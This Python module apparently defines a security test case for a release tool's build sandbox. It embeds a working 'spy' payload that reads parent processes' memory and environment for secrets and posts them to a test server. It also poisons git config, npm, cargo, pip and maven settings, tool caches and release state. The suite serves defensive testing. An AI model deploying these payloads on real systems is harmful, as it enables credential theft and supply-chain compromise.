"""A hostile first run: a build that changes all that it can write, for whoever runs here next with
secrets. Whatever of it is started says what it sees, in the workspace and to a server.
"""

from __future__ import annotations

import json
import subprocess
import sys
from contextlib import nullcontext
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Final

from hostile.builds import TOOLS
from hostile.case import SECRETS, Case, environment_of
from hostile.planted import POM, project
from hostile.swarm import DEPLOYING
from hostile.template import START
from workspaces import git

if TYPE_CHECKING:
    from collections.abc import Mapping

    from hostile.case import Content

# The beginning of each secret, in pieces, so that it is in no file that is searched for it.
_MARKS: Final = ", ".join(f"(b{each[:4]!r} + b{each[4:9]!r})" for each in SECRETS.values())
# In the place of a program, then it goes on as that. Where no sandbox holds it, it reads the
# memory of the release.
_SPY: Final = f"""\
#!{sys.executable} -IS
import os, re, sys, urllib.request

NAME = os.path.basename(sys.argv[0])
MARKS = [{_MARKS}]

def tried(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""

def memory(pid):
    found = []
    for line in tried(f"/proc/{{pid}}/maps").splitlines():
        where, rights, *_ = line.split()
        if not rights.startswith(b"rw"):
            continue
        begin, end = (int(each, 16) for each in where.split(b"-"))
        try:
            with open(f"/proc/{{pid}}/mem", "rb", buffering=0) as file:
                file.seek(begin)
                data = file.read(min(end - begin, 1 << 26))
        except (OSError, ValueError, OverflowError):
            continue
        for mark in MARKS:
            places = re.finditer(re.escape(mark), data)
            found += [data[at.start() : at.start() + 64] for at in places]
    return found

pid, seen = os.getpid(), [repr(sys.argv), repr(dict(os.environ))]
for _ in range(6):
    pid = int(tried(f"/proc/{{pid}}/stat").rpartition(b")")[2].split()[1] or 0)
    if pid <= 1:
        break
    seen += [repr(tried(f"/proc/{{pid}}/{{each}}")) for each in ("cmdline", "environ")]
    seen += [each.decode("latin-1") for each in memory(pid)]
for place in ("{{root}}/w/loot", "{{root}}/home"):
    try:
        with open(f"{{place}}/{{NAME}}-{{os.getpid()}}", "w") as file:
            file.write("\\n".join(seen))
    except OSError:
        pass
try:
    urllib.request.urlopen("{{server}}/spy", "\\n".join(seen).encode(), timeout=10).close()
except OSError:
    pass
rest = os.environ.get("PATH", os.defpath).split(":")
os.environ["PATH"] = path = ":".join(each for each in rest if not each.startswith("{{root}}/w"))
if NAME == "gpg":
    print("-----BEGIN PGP SIGNATURE-----\\n\\n=x\\n-----END PGP SIGNATURE-----")
    sys.exit(0)
for place in path.split(":"):
    if os.access(f"{{place}}/{{NAME}}", os.X_OK):
        os.execv(f"{{place}}/{{NAME}}", sys.argv)
sys.exit(1)
"""
_PROGRAMS: Final = (
    "git",
    "uv",
    "npm",
    "node",
    "cargo",
    "go",
    "gpg",
    "python3",
    "sh",
    "java",
    "ssh",
)
# By the backend of the first run, which writes nothing outside of the case's own directory.
_POISON: Final = f"""\
import shutil

W, HOME, SPY = Path("{{root}}/w"), Path("{{root}}/home"), {_SPY!r}

def written(path, text, mode=0o755):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_text(text)
        path.chmod(mode)
    except OSError as error:
        print("not written:", path, error)

def poison_programs():
    for name in {_PROGRAMS!r}:
        written(W / "bin" / name, SPY)
        written(W / "node_modules/.bin" / name, SPY)

def poison_git():
    spy = str(W / "bin/spy")
    written(Path(spy), SPY)
    for hook in ("pre-push", "reference-transaction", "post-checkout", "post-index-change",
                 "fsmonitor-watchman", "pre-commit", "post-receive", "update"):
        written(W / ".git/hooks" / hook, SPY)
    with (W / ".git/config").open("a") as file:
        file.write(f'''
[core]
\\tsshCommand = {{spy}}
\\tfsmonitor = {{spy}}
\\thooksPath = {{W}}/.git/hooks
\\tpager = {{spy}}
\\teditor = {{spy}}
\\taskPass = {{spy}}
\\tgitProxy = {{spy}}
\\talternateRefsCommand = {{spy}}
[remote "origin"]
\\tpushurl = {{HOME}}
\\treceivepack = {{spy}}
\\tuploadpack = {{spy}}
\\tproxy = {{server}}
[url "{{server}}/"]
\\tinsteadOf = https://
[http]
\\tproxy = {{server}}
\\tcookieFile = {{HOME}}/.bashrc
\\tsaveCookies = true
[credential]
\\thelper = {{spy}}
[gpg]
\\tprogram = {{spy}}
[alias]
\\tlog = !{{spy}}
\\tpush = !{{spy}}
\\tls-remote = !{{spy}}
[filter "x"]
\\tclean = {{spy}}
\\tsmudge = {{spy}}
\\tprocess = {{spy}}
[diff]
\\texternal = {{spy}}
[include]
\\tpath = {{W}}/.git/more
[protocol "ext"]
\\tallow = always
[uploadpack]
\\tpackObjectsHook = {{spy}}
''')
    written(W / ".git/more", f"[core]\\n\\tsshCommand = {{spy}}\\n")
    written(W / ".git/info/attributes", "* filter=x diff=x\\n")

def poison_settings():
    spy = str(W / "bin/spy")
    written(Path(spy), SPY)
    auth = "//" + "{{server}}".partition("//")[2] + "/:_authToken=${{RELEASEKIT_NPM_TOKEN}}"
    npmrc = (f"registry={{server}}/\\n@acme:registry={{server}}/\\n{{auth}}\\nproxy={{server}}\\n"
             f"script-shell={{spy}}\\nnode-options=--require {{W}}/evil.cjs\\ngit={{spy}}\\n")
    script = f"require('child_process').spawnSync({{spy!r}})"
    written(W / "evil.cjs", script)
    for place in (W, W / "js/a", HOME):
        written(place / ".npmrc", npmrc)
    for place in (W, HOME):
        written(place / ".cargo/config.toml",
                f'[build]\\nrustc-wrapper = "{{spy}}"\\n'
                f'[registry]\\nglobal-credential-providers = ["{{spy}}"]\\n'
                '[http]\\nproxy = "{{server}}"\\n')
    written(W / "uv.toml", 'index-url = "{{server}}/simple/"\\ncache-dir = "{{root}}/w/cache"\\n')
    written(W / "pip.conf", "[global]\\nindex-url = {{server}}/simple/\\nproxy = {{server}}\\n")
    written(HOME / ".config/pip/pip.conf", "[global]\\nindex-url = {{server}}/simple/\\n")
    written(HOME / ".pypirc", "[pypi]\\nrepository = {{server}}/legacy/\\n")
    written(W / ".mvn/extensions.xml", "<extensions/>")
    written(W / ".mvn/maven.config", f"-Dexec={{spy}}\\n")
    written(W / ".mvn/jvm.config", "-Dhttp.proxyHost=127.0.0.1\\n")
    for name in ("sitecustomize.py", "usercustomize.py", "releasekit.py", "httpx.py", "json.py"):
        for place in (W, W / "packages/core", HOME / ".cache", Path("{{root}}/tmp")):
            written(place / name, f"import subprocess; subprocess.run([{{spy!r}}])\\n")
    settings = '[pypi]\\nregistry = "{{server}}/legacy/"\\nindex = "{{server}}/simple/"\\n'
    written(W / "packages/releasekit.toml", settings)
    # What the tools keep, whole.
    for cache in (HOME / ".cache", HOME / ".npm", HOME / ".cargo/registry"):
        for path in [*cache.rglob("*")]:
            if path.is_file() and not path.is_symlink():
                code = f"import subprocess; subprocess.run([{{spy!r}}])\\n"
                written(path, SPY if os.access(path, os.X_OK) else code)

def poison_state():
    state = W / ".releasekit"
    for name in ("journal.jsonl", "results.json", "plan.json", "report.html", "backup/pypi/x.json"):
        written(state / name, '{{"v": 2, "registry": "{{server}}/legacy/"}}\\n')
    for path in [*state.rglob("dist/**/*")]:
        if path.is_file():
            written(path, SPY)

def left_behind():
    if os.fork():
        return
    try:
        # The last thing that a run does is to say how it went.
        while not (W / ".releasekit/results.json").exists():
            pass
        poison_{{what}}()
    finally:
        os._exit(0)

def build_sdist(directory, *_):
    name = sdist(directory)
    if not (W / "loot").exists():
        (W / "loot").mkdir()
        poison_{{what}}()
        left_behind()
    return name

"""
# What no build may write, although it lies where its user is at home.
VICTIMS: Final[Mapping[str, Content]] = {
    "home/.bashrc": "# nobody's but the user's\n",
    "home/.ssh/id": "of the user\n",
}


POISONS: Final = ("programs", "git", "settings", "state")


def second_run(what: str, pypi: str, npm: str, elsewhere: str) -> Case:
    """With secrets, to these servers, after a first run without any; `elsewhere` gets nothing."""
    document = {"name": "@acme/a", "version": "1.0.0", "license": "MIT"}
    path = f"{{root}}/w/bin:{Path(sys.executable).parent}"
    backend = TOOLS.replace("evil.py", "backend.py") + _POISON.replace("{what}", what)
    made = Case(
        name=f"a second run after {what}",
        files={
            "w/pyproject.toml": '[tool.uv.workspace]\nmembers = ["packages/*"]\n',
            "w/packages/core/pyproject.toml": project("core"),
            "w/packages/core/backend.py": backend,
            "w/package.json": json.dumps({"private": True, "workspaces": ["js/*"]}),
            "w/js/a/package.json": json.dumps(document),
            "w/pom.xml": POM,
            "w/mvnw": DEPLOYING,
            "w/.gitignore": "/bin\n/loot\n.releasekit\n",
            "w/releasekit.toml": '[maven]\ncommand = "./mvnw"\nsign = true\n',
            **VICTIMS,
        },
        argv=(
            *("publish", "--build-sandbox", "required", "--deadline", "60s", "--tag"),
            *("--max-retries", "0", "--retry-base-delay", "0s"),
            *("--pypi-registry", f"{pypi}/legacy/", "--pypi-index", f"{pypi}/simple/"),
            *("--npm-registry", f"{npm}/", "--npm-tag", "latest"),
            *("--maven-registry", "dir:{root}/registry"),
        ),
        environment={"PATH": f"{path}:/usr/local/bin:/usr/bin:/bin"},
        codes=frozenset({0, 1, 2, 3}),
        may_write=("registry", "w", "remote.git"),
        server=lambda: nullcontext(elsewhere),
        sandboxed=True,
        executed=True,
    )

    def first_run(root: Path) -> None:
        (root / "w/bin").mkdir()
        (root / "w/mvnw").chmod(0o755)
        git(root, "init", "--quiet", "--bare", "remote.git")
        git(root / "w", "init", "--quiet", "--initial-branch", "main")
        git(root / "w", "remote", "add", "origin", f"file://{root}/remote.git")
        git(root / "w", "add", "--all")
        git(root / "w", "commit", "--quiet", "--message", "Start")
        git(root / "w", "push", "--quiet", "origin", "main")
        environment = {
            name: value.replace("{root}", str(root))
            for name, value in environment_of(made, root).items()
            if name not in SECRETS and not name.startswith("GITHUB_")
        }
        argv = [sys.executable, "-I", str(START), "publish", str(root / "w")]
        argv += ["--registry", f"dir:{root}/first", "--build-sandbox", "required"]
        argv += ["--deadline", "60s"]
        done = subprocess.run(
            argv, env=environment, capture_output=True, text=True, check=False, timeout=120
        )
        assert (root / "w/loot").exists(), done.stdout + done.stderr

    return replace(made, prepare=first_run)
